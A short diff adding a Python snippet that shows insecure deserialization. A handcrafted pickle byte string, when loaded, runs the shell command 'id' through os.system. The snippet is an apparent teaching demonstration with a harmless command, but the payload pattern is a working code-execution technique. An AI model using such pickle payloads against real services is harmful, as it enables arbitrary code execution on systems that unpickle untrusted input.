@@ -1,0 +1,3 @@
+# pickle payloads run code on load
+import pickle
+pickle.loads(b"cos\nsystem\n(S'id'\ntR.")
